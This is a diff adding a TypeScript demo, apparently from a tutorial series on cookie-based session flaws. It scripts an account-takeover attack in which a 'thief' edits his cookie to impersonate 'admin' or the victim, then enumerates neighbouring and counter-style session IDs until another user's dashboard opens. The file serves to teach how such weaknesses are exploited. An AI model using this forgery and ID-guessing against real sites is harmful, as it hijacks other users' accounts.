@@ -1,0 +1,58 @@
+import { attack } from "../kit/attack.ts";
+import type { Browser } from "../kit/browser.ts";
+import { forgeries } from "../01-username-in-a-cookie/attack.ts";
+
+const DIGITS: [alphabet: RegExp, radix: number][] = [
+  [/^\d+$/, 10],
+  [/^[\da-f]+$/i, 16],
+  [/^[\da-z]+$/i, 36],
+];
+const REACH = 8;
+
+/** Values just before and after this one, where its end is read as a number. Empty when it does not end in digits. */
+function neighbours(value: string): string[] {
+  const tail = /[\da-z]{1,10}$/i.exec(value)?.[0] ?? "";
+  const radix = DIGITS.find(([alphabet]) => alphabet.test(tail))?.[1];
+  if (radix === undefined) return [];
+  const own = Number.parseInt(tail, radix);
+  const steps = Array.from({ length: 2 * REACH + 1 }, (_, step) => own - REACH + step);
+  return steps
+    .filter((number) => number >= 0 && number !== own)
+    .map((number) => value.slice(0, -tail.length) + number.toString(radix).padStart(tail.length, "0"));
+}
+
+/** Cookie headers with another ID in them: next to the thief's own, and the first few that a counter would give. */
+function guesses(cookieHeader: string): string[] {
+  const at = cookieHeader.indexOf("=") + 1;
+  const counted = Array.from({ length: 2 * REACH }, (_, index) => String(index + 1));
+  return [...neighbours(cookieHeader.slice(at)), ...counted].map((value) => cookieHeader.slice(0, at) + value);
+}
+
+/** What the first of these headers opens that the thief's own cookie does not. */
+async function firstOpen(thief: Browser, headers: readonly string[]): Promise<string | undefined> {
+  const own = (await thief.get("/dashboard")).response.body;
+  for (const cookie of headers) {
+    const { response } = await thief.get("/dashboard", { headers: { cookie } });
+    if (response.status === 200 && response.body !== own) return response.body;
+  }
+  return undefined;
+}
+
+// #region attack
+export default attack(
+  "forging the name and guessing the ID",
+  "A thief who can write or guess an ID that is on the list is whoever it belongs to.",
+  async ({ thief, victim, say }) => {
+    say("The victim logs in.");
+    await victim.login();
+    say("The thief logs in with an account of his own, and edits his cookie wherever it says bob.");
+    await thief.login("bob", "builder");
+    for (const name of ["admin", victim.name]) {
+      const forged = await firstOpen(thief, await forgeries(thief.cookieHeader(), "bob", name));
+      if (forged !== undefined) return forged;
+    }
+    say("No edit makes him anybody else. He tries the IDs next to his own, and those that a counter would give.");
+    return firstOpen(thief, guesses(thief.cookieHeader()));
+  },
+);
+// #endregion
